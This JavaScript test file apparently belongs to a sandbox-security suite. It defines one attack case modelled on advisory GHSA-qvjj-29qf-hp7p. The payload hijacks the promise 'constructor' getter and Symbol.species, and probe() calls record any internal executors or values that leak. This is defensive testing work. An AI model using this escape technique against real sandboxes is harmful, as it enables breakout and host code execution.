import { attack } from '../attack.js';

export const speciesOnThePrototype = attack({
  class: 'promises',
  name: 'a constructor getter on Promise.prototype',
  modelled_on: 'GHSA-qvjj-29qf-hp7p',
  attempt: `
    const odd = async () => { const e = new Error(); e.name = Symbol(); return e.stack };
    function Fake(executor) { probe(executor, 'executor'); executor((v) => probe(v, 'value'), (e) => probe(e, 'reason')) }
    for (let proto = Object.getPrototypeOf(odd()), steps = 0; proto && proto !== Object.prototype && steps < 3; steps += 1, proto = Object.getPrototypeOf(proto)) { let left = 1; try { Object.defineProperty(proto, 'constructor', { configurable: true, get() { left -= 1; return left >= 0 ? Promise : { [Symbol.species]: Fake } } }) } catch (e) { probe(e, 'refusal') } const p = odd(); try { p.then() } catch (e) { probe(e, 'refusal') } p.catch?.(() => {}) }`,
});
